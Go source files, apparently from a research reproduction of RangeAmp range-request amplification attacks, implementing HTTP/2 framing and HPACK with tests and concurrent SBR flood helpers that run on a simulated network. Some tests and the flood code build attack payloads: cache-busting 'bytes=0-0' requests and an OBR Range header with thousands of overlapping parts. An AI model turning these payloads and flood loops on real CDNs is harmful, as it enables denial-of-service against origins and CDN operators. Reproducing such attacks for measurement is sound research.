func TestFrameSizeBound(t *testing.T) {
	if err := WriteFrame(&bytes.Buffer{}, Frame{Payload: make([]byte, maxFrameSize+1)}); err == nil {
		t.Error("oversized frame written")
	}
	var buf bytes.Buffer
	buf.Write([]byte{0xff, 0xff, 0xff, 0, 0, 0, 0, 0, 1})
	if _, err := ReadFrame(&buf); err == nil {
		t.Error("oversized frame read")
	}
}

func TestSettingsRoundTrip(t *testing.T) {
	in := []Setting{{SettingHeaderTableSize, 0}, {SettingInitialWindowSize, 1 << 20}}
	out, err := DecodeSettings(EncodeSettings(in))
	if err != nil {
		t.Fatal(err)
	}
	if len(out) != 2 || out[0] != in[0] || out[1] != in[1] {
		t.Fatalf("got %+v", out)
	}
	if _, err := DecodeSettings([]byte{1, 2, 3}); err == nil {
		t.Error("ragged settings accepted")
	}
}

func TestWindowUpdateRoundTrip(t *testing.T) {
	inc, err := DecodeWindowUpdate(EncodeWindowUpdate(12345))
	if err != nil || inc != 12345 {
		t.Fatalf("inc=%d err=%v", inc, err)
	}
	if _, err := DecodeWindowUpdate(EncodeWindowUpdate(0)); err == nil {
		t.Error("zero increment accepted")
	}
	if _, err := DecodeWindowUpdate([]byte{1}); err == nil {
		t.Error("short payload accepted")
	}
}

func TestHPACKStaticIndexed(t *testing.T) {
	// :method GET is static index 2: a single byte 0x82.
	block := EncodeHeaderBlock([]HeaderField{{Name: ":method", Value: "GET"}})
	if !bytes.Equal(block, []byte{0x82}) {
		t.Errorf("block = %x", block)
	}
	fields, err := DecodeHeaderBlock(block)
	if err != nil || len(fields) != 1 || fields[0] != (HeaderField{":method", "GET"}) {
		t.Errorf("fields = %+v, err %v", fields, err)
	}
}

func TestHPACKRoundTrip(t *testing.T) {
	in := []HeaderField{
		{Name: ":method", Value: "GET"},
		{Name: ":path", Value: "/10MB.bin?cb=77"},
		{Name: ":authority", Value: "victim.example.com"},
		{Name: ":scheme", Value: "http"},
		{Name: "range", Value: "bytes=0-0"},
		{Name: "user-agent", Value: "rangeamp-attack/1.0"},
		{Name: "x-custom-header", Value: "anything at all"},
	}
	out, err := DecodeHeaderBlock(EncodeHeaderBlock(in))
	if err != nil {
		t.Fatal(err)
	}
	if len(out) != len(in) {
		t.Fatalf("%d fields, want %d", len(out), len(in))
	}
	for i := range in {
		if out[i] != in[i] {
			t.Errorf("field %d = %+v, want %+v", i, out[i], in[i])
		}
	}
}

func TestHPACKCompressionBeatsHTTP1(t *testing.T) {
	// The §VI-B observation: the attack request costs fewer bytes on the
	// wire over h2, so the amplification denominator shrinks.
	req := httpwire.NewRequest("GET", "/10MB.bin?cb=1", "victim.example.com")
	req.Headers.Add("User-Agent", "rangeamp-attack/1.0")
	req.Headers.Add("Range", "bytes=0-0")
	h1 := req.WireSize()
	h2 := len(EncodeHeaderBlock(fieldsFromRequest(req))) + frameHeaderLen
	if h2 >= h1 {
		t.Errorf("h2 request %dB not smaller than h1 %dB", h2, h1)
	}
}

func TestHPACKDecodeErrors(t *testing.T) {
	tests := []struct {
		name  string
		block []byte
	}{
		{"dynamic-index", []byte{0x80 | 62}}, // beyond the static table
		{"index-zero", []byte{0x80}},         // indexed with index 0
		{"truncated-string", []byte{0x00, 0x05, 'a'}},
		{"huffman", []byte{0x00, 0x81, 0xff, 0x81, 0xff}},
		{"truncated-varint", []byte{0x7f, 0x80}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if _, err := DecodeHeaderBlock(tt.block); err == nil {
				t.Error("accepted")
			}
		})
	}
}

func TestHPACKIntegerProperty(t *testing.T) {
	f := func(v uint32, prefixSeed uint8) bool {
		prefix := int(prefixSeed)%8 + 1
		enc := appendInt(nil, prefix, 0, uint64(v))
		got, rest, err := readInt(enc, prefix)
		return err == nil && got == uint64(v) && len(rest) == 0
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 5000}); err != nil {
		t.Error(err)
	}
}

func TestHPACKHeaderBlockProperty(t *testing.T) {
	f := func(names, values []string) bool {
		n := len(names)
		if len(values) < n {
			n = len(values)
		}
		in := make([]HeaderField, 0, n)
		for i := 0; i < n; i++ {
			name := strings.Map(func(r rune) rune {
				if r < 'a' || r > 'z' {
					return 'x'
				}
				return r
			}, names[i])
			if name == "" {
				name = "h"
			}
			in = append(in, HeaderField{Name: name, Value: values[i]})
		}
		out, err := DecodeHeaderBlock(EncodeHeaderBlock(in))
		if err != nil || len(out) != len(in) {
			return false
		}
		for i := range in {
			if out[i] != in[i] {
				return false
			}
		}
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 500}); err != nil {
		t.Error(err)
	}
}

// startH2Origin serves an origin over HTTP/2 on an in-memory listener.
func startH2Origin(t *testing.T, size int64, rangeSupport bool) (*netsim.Network, *origin.Server) {
	t.Helper()
	store := resource.NewStore()
	store.AddSynthetic("/f.bin", size, "application/octet-stream")
	srv := origin.NewServer(store, origin.Config{RangeSupport: rangeSupport})
	net := netsim.NewNetwork()
	l, err := net.Listen("h2origin:80")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { l.Close() })
	go Serve(l, srv)
	return net, srv
}

func TestEndToEndGET(t *testing.T) {
	net, _ := startH2Origin(t, 4096, true)
	conn, err := net.Dial("h2origin:80", netsim.NewSegment("t"))
	if err != nil {
		t.Fatal(err)
	}
	req := httpwire.NewRequest("GET", "/f.bin", "h")
	resp, err := Fetch(conn, req)
	if err != nil {
		t.Fatal(err)
	}
	if resp.StatusCode != 200 || len(resp.Body) != 4096 {
		t.Fatalf("status=%d len=%d", resp.StatusCode, len(resp.Body))
	}
	if v, _ := resp.Headers.Get("Server"); v != origin.ServerSoftware {
		t.Errorf("Server = %q", v)
	}
}

func TestEndToEndRangeRequest(t *testing.T) {
	net, srv := startH2Origin(t, 1000, true)
	conn, err := net.Dial("h2origin:80", netsim.NewSegment("t"))
	if err != nil {
		t.Fatal(err)
	}
	req := httpwire.NewRequest("GET", "/f.bin", "h")
	req.Headers.Add("Range", "bytes=0-0")
	resp, err := Fetch(conn, req)
	if err != nil {
		t.Fatal(err)
	}
	if resp.StatusCode != 206 || len(resp.Body) != 1 {
		t.Fatalf("status=%d len=%d", resp.StatusCode, len(resp.Body))
	}
	if v, _ := resp.Headers.Get("Content-Range"); v != "bytes 0-0/1000" {
		t.Errorf("Content-Range = %q", v)
	}
	log := srv.Log()
	if len(log) != 1 || log[0].RangeHeader != "bytes=0-0" {
		t.Errorf("origin log = %+v", log)
	}
}

func TestEndToEndLargeBodyFlowControl(t *testing.T) {
	// A 5 MB body crosses the 64 KB initial windows many times over; the
	// transfer must complete via WINDOW_UPDATE exchange.
	const size = 5 << 20
	net, _ := startH2Origin(t, size, true)
	conn, err := net.Dial("h2origin:80", netsim.NewSegment("t"))
	if err != nil {
		t.Fatal(err)
	}
	resp, err := Fetch(conn, httpwire.NewRequest("GET", "/f.bin", "h"))
	if err != nil {
		t.Fatal(err)
	}
	if len(resp.Body) != size {
		t.Fatalf("body = %d bytes", len(resp.Body))
	}
	want := resource.Synthetic("/f.bin", size, "x").Data
	if !bytes.Equal(resp.Body, want) {
		t.Error("body corrupted in flight")
	}
}

func TestSequentialRequestsOneConnection(t *testing.T) {
	net, _ := startH2Origin(t, 2048, true)
	conn, err := net.Dial("h2origin:80", netsim.NewSegment("t"))
	if err != nil {
		t.Fatal(err)
	}
	c, err := NewClientConn(conn)
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	for i := 0; i < 5; i++ {
		req := httpwire.NewRequest("GET", "/f.bin", "h")
		req.Headers.Add("Range", "bytes=0-9")
		resp, err := c.Fetch(req)
		if err != nil {
			t.Fatalf("request %d: %v", i, err)
		}
		if resp.StatusCode != 206 || len(resp.Body) != 10 {
			t.Fatalf("request %d: status=%d len=%d", i, resp.StatusCode, len(resp.Body))
		}
	}
}

func TestServeRejectsBadPreface(t *testing.T) {
	net := netsim.NewNetwork()
	l, _ := net.Listen("x:80")
	defer l.Close()
	store := resource.NewStore()
	srv := origin.NewServer(store, origin.Config{})
	errCh := make(chan error, 1)
	go func() {
		conn, err := l.Accept()
		if err != nil {
			errCh <- err
			return
		}
		errCh <- ServeConn(conn, srv)
	}()
	conn, err := net.Dial("x:80", nil)
	if err != nil {
		t.Fatal(err)
	}
	conn.Write([]byte("GET / HTTP/1.1\r\nHost: nope\r\n\r\n")) // >= 24 bytes, wrong preface
	if err := <-errCh; err == nil {
		t.Error("bad preface accepted")
	}
	conn.Close()
}

func TestCanonical(t *testing.T) {
	tests := map[string]string{
		"content-type": "Content-Type",
		"range":        "Range",
		"x-77-pop":     "X-77-Pop",
		"etag":         "Etag",
	}
	for in, want := range tests {
		if got := canonical(in); got != want {
			t.Errorf("canonical(%q) = %q, want %q", in, got, want)
		}
	}
}

func TestRequestFieldTranslation(t *testing.T) {
	req := httpwire.NewRequest("GET", "/f?x=1", "victim.example.com")
	req.Headers.Add("Range", "bytes=0-0")
	req.Headers.Add("Connection", "close") // must be dropped for h2
	fields := fieldsFromRequest(req)
	back, err := requestFromFields(fields, nil)
	if err != nil {
		t.Fatal(err)
	}
	if back.Method != "GET" || back.Target != "/f?x=1" || back.Host() != "victim.example.com" {
		t.Errorf("round trip = %+v", back)
	}
	if back.Headers.Has("Connection") {
		t.Error("connection-specific header crossed into h2")
	}
	if v, _ := back.Headers.Get("Range"); v != "bytes=0-0" {
		t.Errorf("Range = %q", v)
	}
}

func TestRequestFromFieldsErrors(t *testing.T) {
	if _, err := requestFromFields([]HeaderField{{":method", "GET"}}, nil); err == nil {
		t.Error("missing :path accepted")
	}
	if _, err := requestFromFields([]HeaderField{{":method", "GET"}, {":path", "/"}, {":bogus", "x"}}, nil); err == nil {
		t.Error("unknown pseudo-header accepted")
	}
}

func TestResponseFromFieldsErrors(t *testing.T) {
	if _, err := responseFromFields([]HeaderField{{"server", "x"}}, nil); err == nil {
		t.Error("missing :status accepted")
	}
	if _, err := responseFromFields([]HeaderField{{":status", "abc"}}, nil); err == nil {
		t.Error("bad :status accepted")
	}
}

func TestOBRMultipartOverH2(t *testing.T) {
	// A BCDN-style n-part multipart body (several MB) survives h2 flow
	// control intact — the §VI-B claim for the OBR attack shape.
	store := resource.NewStore()
	store.AddSynthetic("/1KB.bin", 1024, "application/octet-stream")
	srv := origin.NewServer(store, origin.Config{RangeSupport: true})
	net := netsim.NewNetwork()
	l, err := net.Listen("obr:80")
	if err != nil {
		t.Fatal(err)
	}
	defer l.Close()
	go Serve(l, srv)

	conn, err := net.Dial("obr:80", netsim.NewSegment("t"))
	if err != nil {
		t.Fatal(err)
	}
	const n = 2000
	req := httpwire.NewRequest("GET", "/1KB.bin", "h")
	req.Headers.Add("Range", "bytes=0-"+strings.Repeat(",0-", n-1))
	resp, err := Fetch(conn, req)
	if err != nil {
		t.Fatal(err)
	}
	if resp.StatusCode != 206 {
		t.Fatalf("status = %d", resp.StatusCode)
	}
	if int64(len(resp.Body)) < n*1024 {
		t.Fatalf("body = %d bytes, want >= %d", len(resp.Body), n*1024)
	}
	if parts := strings.Count(string(resp.Body), "Content-Range:"); parts != n {
		t.Errorf("%d parts, want %d", parts, n)
	}
}
