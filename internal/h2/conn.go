package h2

import (
	"bufio"
	"fmt"
	"io"
	"strconv"
	"strings"
	"sync"

	"repro/internal/httpwire"
	"repro/internal/netsim"
)

// Handler answers one request; both origin.Server and cdn.Edge satisfy
// it, so the same engines serve HTTP/1.1 and HTTP/2.
type Handler interface {
	Handle(req *httpwire.Request) *httpwire.Response
}

// sender serializes frame writes and enforces send-side flow control.
type sender struct {
	mu sync.Mutex // serializes writes
	w  io.Writer

	fcMu       sync.Mutex
	fcCond     *sync.Cond
	connWindow int64
	streams    map[uint32]*int64
	initial    int64
	maxFrame   int
	dead       bool
}

func newSender(w io.Writer) *sender {
	s := &sender{
		w:          w,
		connWindow: DefaultWindow,
		streams:    make(map[uint32]*int64),
		initial:    DefaultWindow,
		maxFrame:   DefaultMaxFrameSize,
	}
	s.fcCond = sync.NewCond(&s.fcMu)
	return s
}

func (s *sender) writeFrame(f Frame) error {
	s.mu.Lock()
	defer s.mu.Unlock()
	return WriteFrame(s.w, f)
}

func (s *sender) openStream(id uint32) {
	s.fcMu.Lock()
	defer s.fcMu.Unlock()
	w := s.initial
	s.streams[id] = &w
}

func (s *sender) closeStream(id uint32) {
	s.fcMu.Lock()
	defer s.fcMu.Unlock()
	delete(s.streams, id)
	s.fcCond.Broadcast()
}

func (s *sender) addConnWindow(n int64) {
	s.fcMu.Lock()
	defer s.fcMu.Unlock()
	s.connWindow += n
	s.fcCond.Broadcast()
}

func (s *sender) addStreamWindow(id uint32, n int64) {
	s.fcMu.Lock()
	defer s.fcMu.Unlock()
	if w, ok := s.streams[id]; ok {
		*w += n
	}
	s.fcCond.Broadcast()
}

func (s *sender) setInitialWindow(v int64) {
	s.fcMu.Lock()
	defer s.fcMu.Unlock()
	delta := v - s.initial
	s.initial = v
	for _, w := range s.streams {
		*w += delta
	}
	s.fcCond.Broadcast()
}

func (s *sender) kill() {
	s.fcMu.Lock()
	defer s.fcMu.Unlock()
	s.dead = true
	s.fcCond.Broadcast()
}

// reserve blocks until n bytes of both connection and stream window are
// available, then deducts them.
func (s *sender) reserve(id uint32, n int64) error {
	s.fcMu.Lock()
	defer s.fcMu.Unlock()
	for {
		if s.dead {
			return ErrGoAway
		}
		w, ok := s.streams[id]
		if !ok {
			return ErrStreamClosed
		}
		if s.connWindow >= n && *w >= n {
			s.connWindow -= n
			*w -= n
			return nil
		}
		s.fcCond.Wait()
	}
}

// sendData ships a body as DATA frames under flow control, ending the
// stream with the final frame (or an empty one for empty bodies).
func (s *sender) sendData(id uint32, body []byte) error {
	if len(body) == 0 {
		return s.writeFrame(Frame{Type: FrameData, Flags: FlagEndStream, StreamID: id})
	}
	s.fcMu.Lock()
	maxFrame := s.maxFrame
	s.fcMu.Unlock()
	for off := 0; off < len(body); {
		chunk := len(body) - off
		if chunk > maxFrame {
			chunk = maxFrame
		}
		if err := s.reserve(id, int64(chunk)); err != nil {
			return err
		}
		flags := uint8(0)
		if off+chunk == len(body) {
			flags = FlagEndStream
		}
		if err := s.writeFrame(Frame{Type: FrameData, Flags: flags, StreamID: id, Payload: body[off : off+chunk]}); err != nil {
			return err
		}
		off += chunk
	}
	return nil
}

// unpad strips padding (and an optional priority block) from a HEADERS
// or DATA payload.
func unpad(f Frame) ([]byte, error) {
	p := f.Payload
	padLen := 0
	if f.Flags&FlagPadded != 0 {
		if len(p) < 1 {
			return nil, ErrProtocol
		}
		padLen = int(p[0])
		p = p[1:]
	}
	if f.Type == FrameHeaders && f.Flags&FlagPriority != 0 {
		if len(p) < 5 {
			return nil, ErrProtocol
		}
		p = p[5:]
	}
	if padLen > len(p) {
		return nil, fmt.Errorf("%w: padding exceeds payload", ErrProtocol)
	}
	return p[:len(p)-padLen], nil
}

// ourSettings is what both peers announce: no dynamic HPACK table, no
// server push.
func ourSettings() []Setting {
	return []Setting{
		{ID: SettingHeaderTableSize, Value: 0},
		{ID: SettingEnablePush, Value: 0},
		{ID: SettingMaxConcurrent, Value: 128},
	}
}

func applyPeerSettings(s *sender, payload []byte) error {
	settings, err := DecodeSettings(payload)
	if err != nil {
		return err
	}
	for _, st := range settings {
		switch st.ID {
		case SettingInitialWindowSize:
			if st.Value > 1<<31-1 {
				return fmt.Errorf("%w: initial window %d", ErrFlowControl, st.Value)
			}
			s.setInitialWindow(int64(st.Value))
		case SettingMaxFrameSize:
			if st.Value >= 16384 && st.Value <= 1<<20 {
				s.fcMu.Lock()
				s.maxFrame = int(st.Value)
				s.fcMu.Unlock()
			}
		}
	}
	return nil
}

// requestFromFields translates HPACK request fields into the internal
// request shape (RFC 7540 §8.1.2.3 pseudo-headers).
func requestFromFields(fields []HeaderField, body []byte) (*httpwire.Request, error) {
	req := &httpwire.Request{Proto: httpwire.Proto11, Body: body}
	var authority string
	for _, f := range fields {
		switch f.Name {
		case ":method":
			req.Method = f.Value
		case ":path":
			req.Target = f.Value
		case ":authority":
			authority = f.Value
		case ":scheme":
			// informational only
		default:
			if strings.HasPrefix(f.Name, ":") {
				return nil, fmt.Errorf("%w: pseudo-header %q", ErrHeaderSemantic, f.Name)
			}
			req.Headers.Add(canonical(f.Name), f.Value)
		}
	}
	if req.Method == "" || req.Target == "" {
		return nil, fmt.Errorf("%w: missing :method or :path", ErrHeaderSemantic)
	}
	if authority != "" && !req.Headers.Has("Host") {
		hs := httpwire.Headers{{Name: "Host", Value: authority}}
		req.Headers = append(hs, req.Headers...)
	}
	return req, nil
}

// fieldsFromRequest translates an internal request to HPACK fields.
func fieldsFromRequest(req *httpwire.Request) []HeaderField {
	fields := []HeaderField{
		{Name: ":method", Value: req.Method},
		{Name: ":scheme", Value: "http"},
		{Name: ":path", Value: req.Target},
		{Name: ":authority", Value: req.Host()},
	}
	for _, h := range req.Headers {
		name := strings.ToLower(h.Name)
		if name == "host" || name == "connection" || name == "keep-alive" || name == "transfer-encoding" {
			continue // connection-specific headers do not cross into h2 (§8.1.2.2)
		}
		fields = append(fields, HeaderField{Name: name, Value: h.Value})
	}
	return fields
}

// fieldsFromResponse translates an internal response to HPACK fields.
func fieldsFromResponse(resp *httpwire.Response) []HeaderField {
	fields := []HeaderField{{Name: ":status", Value: strconv.Itoa(resp.StatusCode)}}
	for _, h := range resp.Headers {
		name := strings.ToLower(h.Name)
		if name == "connection" || name == "keep-alive" || name == "transfer-encoding" || name == "content-length" {
			continue // h2 frames the body itself
		}
		fields = append(fields, HeaderField{Name: name, Value: h.Value})
	}
	return fields
}

// responseFromFields translates HPACK response fields back.
func responseFromFields(fields []HeaderField, body []byte) (*httpwire.Response, error) {
	resp := &httpwire.Response{Proto: "HTTP/2.0", Body: body}
	for _, f := range fields {
		if f.Name == ":status" {
			code, err := strconv.Atoi(f.Value)
			if err != nil {
				return nil, fmt.Errorf("%w: status %q", ErrHeaderSemantic, f.Value)
			}
			resp.StatusCode = code
			resp.Reason = httpwire.ReasonPhrase(code)
			continue
		}
		if strings.HasPrefix(f.Name, ":") {
			return nil, fmt.Errorf("%w: pseudo-header %q", ErrHeaderSemantic, f.Name)
		}
		resp.Headers.Add(canonical(f.Name), f.Value)
	}
	if resp.StatusCode == 0 {
		return nil, fmt.Errorf("%w: missing :status", ErrHeaderSemantic)
	}
	resp.Headers.Set("Content-Length", strconv.Itoa(len(body)))
	return resp, nil
}

// canonical restores conventional Header-Casing from lowercase h2 names.
func canonical(name string) string {
	var b strings.Builder
	b.Grow(len(name))
	upper := true
	for i := 0; i < len(name); i++ {
		c := name[i]
		if upper && 'a' <= c && c <= 'z' {
			c -= 'a' - 'A'
		}
		upper = c == '-'
		b.WriteByte(c)
	}
	return b.String()
}

// ServeConn speaks server-side HTTP/2 on rw, dispatching requests to h.
// It returns when the peer disconnects or a protocol error occurs.
func ServeConn(rw netsim.Conn, h Handler) error {
	defer rw.Close()
	br := bufio.NewReader(rw)

	preface := make([]byte, len(Preface))
	if _, err := io.ReadFull(br, preface); err != nil {
		return fmt.Errorf("%w: %v", ErrBadPreface, err)
	}
	if string(preface) != Preface {
		return ErrBadPreface
	}
	snd := newSender(rw)
	defer snd.kill()
	if err := snd.writeFrame(Frame{Type: FrameSettings, Payload: EncodeSettings(ourSettings())}); err != nil {
		return err
	}

	type pending struct {
		fields []byte
		body   []byte
		open   bool // headers not yet ended
	}
	streams := make(map[uint32]*pending)
	var wg sync.WaitGroup
	defer wg.Wait()

	dispatch := func(id uint32, block, body []byte) error {
		fields, err := DecodeHeaderBlock(block)
		if err != nil {
			return err
		}
		req, err := requestFromFields(fields, body)
		if err != nil {
			return err
		}
		snd.openStream(id)
		wg.Add(1)
		go func() {
			defer wg.Done()
			defer snd.closeStream(id)
			resp := h.Handle(req)
			hdr := EncodeHeaderBlock(fieldsFromResponse(resp))
			// h2 frames the body itself, so a streamed body is
			// materialized here before DATA framing.
			body := resp.BodyBytes()
			flags := FlagEndHeaders
			if len(body) == 0 {
				flags |= FlagEndStream
			}
			if err := snd.writeFrame(Frame{Type: FrameHeaders, Flags: flags, StreamID: id, Payload: hdr}); err != nil {
				return
			}
			if len(body) > 0 {
				snd.sendData(id, body) //nolint:errcheck // peer close ends the stream
			}
		}()
		return nil
	}

	for {
		f, err := ReadFrame(br)
		if err != nil {
			if err == io.EOF || err == io.ErrUnexpectedEOF {
				return nil
			}
			return err
		}
		switch f.Type {
		case FrameSettings:
			if f.Flags&FlagAck != 0 {
				continue
			}
			if err := applyPeerSettings(snd, f.Payload); err != nil {
				return err
			}
			if err := snd.writeFrame(Frame{Type: FrameSettings, Flags: FlagAck}); err != nil {
				return err
			}
		case FramePing:
			if f.Flags&FlagAck == 0 {
				if err := snd.writeFrame(Frame{Type: FramePing, Flags: FlagAck, Payload: f.Payload}); err != nil {
					return err
				}
			}
		case FrameWindowUpdate:
			inc, err := DecodeWindowUpdate(f.Payload)
			if err != nil {
				return err
			}
			if f.StreamID == 0 {
				snd.addConnWindow(int64(inc))
			} else {
				snd.addStreamWindow(f.StreamID, int64(inc))
			}
		case FrameHeaders:
			block, err := unpad(f)
			if err != nil {
				return err
			}
			p := &pending{fields: append([]byte(nil), block...), open: f.Flags&FlagEndHeaders == 0}
			streams[f.StreamID] = p
			if !p.open && f.Flags&FlagEndStream != 0 {
				delete(streams, f.StreamID)
				if err := dispatch(f.StreamID, p.fields, nil); err != nil {
					return err
				}
			}
		case FrameContinuation:
			p := streams[f.StreamID]
			if p == nil || !p.open {
				return fmt.Errorf("%w: unexpected CONTINUATION", ErrProtocol)
			}
			p.fields = append(p.fields, f.Payload...)
			if f.Flags&FlagEndHeaders != 0 {
				p.open = false
				delete(streams, f.StreamID)
				if err := dispatch(f.StreamID, p.fields, p.body); err != nil {
					return err
				}
			}
		case FrameData:
			p := streams[f.StreamID]
			if p == nil {
				continue // stream already dispatched or reset
			}
			data, err := unpad(f)
			if err != nil {
				return err
			}
			p.body = append(p.body, data...)
			// Replenish the peer's send window for request bodies.
			if len(data) > 0 {
				snd.writeFrame(Frame{Type: FrameWindowUpdate, Payload: EncodeWindowUpdate(uint32(len(data)))})                       //nolint:errcheck
				snd.writeFrame(Frame{Type: FrameWindowUpdate, StreamID: f.StreamID, Payload: EncodeWindowUpdate(uint32(len(data)))}) //nolint:errcheck
			}
			if f.Flags&FlagEndStream != 0 && !p.open {
				delete(streams, f.StreamID)
				if err := dispatch(f.StreamID, p.fields, p.body); err != nil {
					return err
				}
			}
		case FrameRSTStream:
			delete(streams, f.StreamID)
			snd.closeStream(f.StreamID)
		case FrameGoAway:
			return nil
		case FramePriority, FramePushPromise:
			// ignored (priority) / never sent by clients we accept
		default:
			// unknown frame types are ignored per §4.1
		}
	}
}

// Serve accepts connections from l and serves each with ServeConn.
func Serve(l *netsim.Listener, h Handler) {
	for {
		conn, err := l.Accept()
		if err != nil {
			return
		}
		go ServeConn(conn, h) //nolint:errcheck
	}
}
