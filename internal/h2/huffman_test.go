package h2

import (
	"strings"
	"testing"
	"testing/quick"
)

func TestHuffmanRoundTrip(t *testing.T) {
	cases := []string{
		"",
		"a",
		"www.example.com",
		"bytes=0-0",
		"bytes=0-,0-,0-,0-",
		"no-cache",
		"Mon, 29 Jun 2020 12:00:00 GMT",
		"/target.bin?cb=12345",
		strings.Repeat("\x00\xff", 50), // worst-case symbols
		"custom-key custom-value with spaces",
	}
	for _, s := range cases {
		enc := appendHuffman(nil, s)
		if len(enc) != huffmanEncodedLen(s) {
			t.Errorf("%q: encoded %d bytes, predicted %d", s, len(enc), huffmanEncodedLen(s))
		}
		got, err := decodeHuffman(enc)
		if err != nil {
			t.Errorf("%q: decode: %v", s, err)
			continue
		}
		if got != s {
			t.Errorf("round trip %q -> %q", s, got)
		}
	}
}

func TestHuffmanRFCExamples(t *testing.T) {
	// RFC 7541 Appendix C.4.1: "www.example.com" encodes to
	// f1e3 c2e5 f23a 6ba0 ab90 f4ff.
	want := []byte{0xf1, 0xe3, 0xc2, 0xe5, 0xf2, 0x3a, 0x6b, 0xa0, 0xab, 0x90, 0xf4, 0xff}
	got := appendHuffman(nil, "www.example.com")
	if len(got) != len(want) {
		t.Fatalf("encoded %x, want %x", got, want)
	}
	for i := range want {
		if got[i] != want[i] {
			t.Fatalf("byte %d: %x, want %x (full %x)", i, got[i], want[i], got)
		}
	}
	// C.6.1: "302" -> 6402.
	if got := appendHuffman(nil, "302"); len(got) != 2 || got[0] != 0x64 || got[1] != 0x02 {
		t.Errorf("302 -> %x, want 6402", got)
	}
	// C.6.1: "private" -> ae c3 77 1a 4b.
	if got := appendHuffman(nil, "private"); len(got) != 5 ||
		got[0] != 0xae || got[1] != 0xc3 || got[2] != 0x77 || got[3] != 0x1a || got[4] != 0x4b {
		t.Errorf("private -> %x", got)
	}
}

func TestHuffmanDecodeErrors(t *testing.T) {
	// A lone 0 bit run that matches no symbol prefix termination:
	// 0x00 decodes symbols ('0' is 5 bits 00000...) — craft real errors:
	// padding with zeros (one spare 0 bit after a symbol).
	bad := appendHuffman(nil, "a") // 'a' is 5 bits -> 3 bits padding of 1s
	bad[len(bad)-1] &^= 0x01       // flip the last padding bit to 0
	if _, err := decodeHuffman(bad); err == nil {
		t.Error("zero-bit padding accepted")
	}
	// 8+ bits of pure padding (a full 0xff byte beyond a symbol boundary
	// is an EOS prefix longer than 7 bits).
	bad2 := append(appendHuffman(nil, "ab"), 0xff)
	if _, err := decodeHuffman(bad2); err == nil {
		t.Error("over-long EOS padding accepted")
	}
}

func TestHuffmanProperty(t *testing.T) {
	f := func(data []byte) bool {
		s := string(data)
		got, err := decodeHuffman(appendHuffman(nil, s))
		return err == nil && got == s
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 2000}); err != nil {
		t.Error(err)
	}
}

func TestHPACKStringsNowHuffman(t *testing.T) {
	// appendString must pick the shorter coding and readString must
	// decode both forms.
	long := "this-is-a-long-lowercase-value-that-huffman-compresses-well"
	enc := appendString(nil, long)
	if enc[0]&0x80 == 0 {
		t.Error("compressible string not Huffman-coded")
	}
	got, rest, err := readString(enc)
	if err != nil || got != long || len(rest) != 0 {
		t.Errorf("readString: %q, %d left, %v", got, len(rest), err)
	}
	// Strings that expand under Huffman stay raw.
	binary := "\xfe\xff\xfd\xfc"
	enc = appendString(nil, binary)
	if enc[0]&0x80 != 0 {
		t.Error("incompressible string Huffman-coded anyway")
	}
	got, _, err = readString(enc)
	if err != nil || got != binary {
		t.Errorf("raw round trip failed: %q %v", got, err)
	}
}
