package core

import (
	"context"

	"repro/internal/measure"
)

// FloodResult aggregates a concurrent SBR flood (§V-D: "a real-world
// attacker can continuously and concurrently send a certain number of
// range requests").
type FloodResult struct {
	Requests      int
	Failures      int
	Blocked       int // HTTP 403 (detector) / 431 (limits) rejections
	Amplification measure.Amplification
}

// RunSBRFlood fires workers × perWorker SBR attack requests against
// the topology's edge concurrently, each with a unique cache-busting
// query, and returns the aggregate amplification. It exercises the
// whole stack under contention (the engines must be race-free). It is
// RunSBRFloodContext with a background context.
func RunSBRFlood(t *SBRTopology, path string, resourceSize int64, workers, perWorker int) (*FloodResult, error) {
	return RunSBRFloodContext(context.Background(), t, path, resourceSize, workers, perWorker)
}
