package core

import (
	"context"

	"repro/internal/measure"
)

// FloodResult aggregates a concurrent SBR flood (§V-D: "a real-world
// attacker can continuously and concurrently send a certain number of
// range requests").
type FloodResult struct {
	Requests      int
	Failures      int
	Blocked       int   // HTTP 403 (detector) / 431 (limits) rejections
	Dials         int64 // attacker->edge connections opened (== Requests per-request; == workers keep-alive)
	Amplification measure.Amplification
}

// FloodOptions tune how a flood spends connections.
type FloodOptions struct {
	// KeepAlive gives each worker one persistent attacker->edge session
	// (origin.Client) carrying all its requests, instead of a fresh
	// dial per request. The request bytes on the wire are identical;
	// only the connection economy changes.
	KeepAlive bool
}

// RunSBRFlood fires workers × perWorker SBR attack requests against
// the topology's edge concurrently, each with a unique cache-busting
// query, and returns the aggregate amplification. It exercises the
// whole stack under contention (the engines must be race-free). It is
// RunSBRFloodContext with a background context.
func RunSBRFlood(t *SBRTopology, path string, resourceSize int64, workers, perWorker int) (*FloodResult, error) {
	return RunSBRFloodContext(context.Background(), t, path, resourceSize, workers, perWorker)
}

// RunSBRFloodKeepAlive is RunSBRFlood over persistent connections: one
// attacker->edge session per worker, every request multiplexed on it.
func RunSBRFloodKeepAlive(t *SBRTopology, path string, resourceSize int64, workers, perWorker int) (*FloodResult, error) {
	return RunSBRFloodOptsContext(context.Background(), t, path, resourceSize, workers, perWorker, FloodOptions{KeepAlive: true})
}
