package core

import (
	"fmt"
	"sync"

	"repro/internal/measure"
	"repro/internal/origin"
)

// FloodResult aggregates a concurrent SBR flood (§V-D: "a real-world
// attacker can continuously and concurrently send a certain number of
// range requests").
type FloodResult struct {
	Requests      int
	Failures      int
	Blocked       int // HTTP 403 (detector) / 431 (limits) rejections
	Amplification measure.Amplification
}

// RunSBRFlood fires workers × perWorker SBR attack requests against
// the topology's edge concurrently, each with a unique cache-busting
// query, and returns the aggregate amplification. It exercises the
// whole stack under contention (the engines must be race-free).
func RunSBRFlood(t *SBRTopology, path string, resourceSize int64, workers, perWorker int) (*FloodResult, error) {
	exploit := SBRExploit(t.Profile.Name, resourceSize)
	probe := measure.NewProbe(t.OriginSeg, t.ClientSeg)

	var (
		wg       sync.WaitGroup
		mu       sync.Mutex
		failures int
		blocked  int
		firstErr error
	)
	for w := 0; w < workers; w++ {
		wg.Add(1)
		go func(w int) {
			defer wg.Done()
			for i := 0; i < perWorker; i++ {
				target := fmt.Sprintf("%s?cb=w%d-%d", path, w, i)
				for r := 0; r < exploit.Repeat; r++ {
					req := NewAttackRequest(target)
					req.Headers.Add("Range", exploit.RangeHeader)
